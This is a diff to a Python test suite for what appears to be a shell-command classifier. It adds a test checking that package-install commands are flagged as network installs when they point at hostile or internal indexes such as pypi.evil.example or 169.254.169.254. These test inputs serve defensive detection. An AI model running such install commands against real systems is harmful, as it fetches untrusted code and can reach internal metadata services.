@@ -352,3 +352,18 @@ def test_an_abbreviation_of_a_raising_option_is_never_harmless(program: str, dat
     cut = data.draw(st.integers(min_value=3, max_value=len(option)))
     c = only(f"{program} {option[:cut]}=x f")
     assert not c.pure_reader, (program, option[:cut])
+
+
+@pytest.mark.parametrize(
+    ("command", "host"),
+    [
+        ("pip install --index-url http://169.254.169.254/simple x", "169.254.169.254"),
+        ("pip install -i https://pypi.evil.example/simple x", "pypi.evil.example"),
+        ("pip install --extra-index-url=http://10.1.2.3/ x", "10.1.2.3"),
+        ("npm install --registry=http://169.254.169.254/ x", "169.254.169.254"),
+        ("uv pip install --index-url http://169.254.169.254/ x", "169.254.169.254"),
+    ],
+)
+def test_the_index_an_install_uses_is_a_network_destination(command: str, host: str) -> None:
+    c = only(command)
+    assert host in c.hosts and E.INSTALL in c.effects
